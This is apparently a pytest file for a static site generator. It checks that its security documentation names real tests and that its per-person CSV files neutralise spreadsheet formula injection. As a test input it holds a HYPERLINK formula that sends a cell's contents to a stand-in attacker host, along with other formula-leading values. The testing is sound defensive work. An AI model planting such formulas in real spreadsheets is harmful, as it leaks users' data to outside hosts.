"""Each promise of docs/security.md names tests that exist; and what spreadsheets make of our CSV files."""

from __future__ import annotations

import ast
import csv
import re
from pathlib import Path

from sitegen.build.build import build
from sitegen.build.context import BuildOptions
from sitegen.core.config import load_config
from tests.conftest import Run, put_story

REPOSITORY = Path(__file__).parents[2]
PAGE = (REPOSITORY / "docs/security.md").read_text(encoding="utf-8")
FORMULA = '=HYPERLINK("https://evil.example/?"&A1)'


def test_every_promise_names_tests_that_exist() -> None:
    rows = [row for row in PAGE.splitlines() if row.startswith("| ") and not row.startswith(("| promise", "| path"))]
    assert len(rows) > 20
    assert [row for row in rows if "::test_" not in row] == []
    for file, test in re.findall(r"`(tests/[\w/]+\.py)::(\w+)`", PAGE):
        tree = ast.parse((REPOSITORY / file).read_text(encoding="utf-8"))
        assert test in {node.name for node in tree.body if isinstance(node, ast.FunctionDef)}, f"{file}::{test}"


def test_how_to_report_is_told_without_a_person_or_a_host() -> None:
    text = (REPOSITORY / "SECURITY.md").read_text(encoding="utf-8")
    assert "docs/security.md" in text and "How to report" in text
    assert not re.search(r"@\w|https?://", text)


def test_no_cell_of_a_page_s_csv_is_a_formula(site: Path) -> None:
    for number, text in enumerate((FORMULA, "+1+1", "-1+1", "@SUM(1)", "plain")):
        head = f"title: '{text}'\ndate: 2019-01-0{number + 1}\npublication: '{text}'\npeople: [Walter Oduya]"
        put_story(site, f"s{number}", head)
    assert not build(site, load_config(site), BuildOptions(conversion=False)).errors
    with (site / "output/people/walter-oduya/stories.csv").open(encoding="utf-8-sig", newline="") as file:
        cells = [cell for row in csv.reader(file) for cell in row]
    assert f"'{FORMULA}" in cells
    assert [cell for cell in cells if cell.startswith(("=", "+", "-", "@"))] == []


def test_an_export_keeps_every_value_as_it_is(site: Path, run: Run, tmp_path: Path) -> None:
    put_story(site, "s", f"title: '{FORMULA}'\ndate: 2019-01-01")
    assert run("export", "--site", site, "--format", "csv", tmp_path / "data").code == 0
    with (tmp_path / "data/stories.csv").open(encoding="utf-8-sig", newline="") as file:
        assert FORMULA in next(iter(csv.DictReader(file))).values()
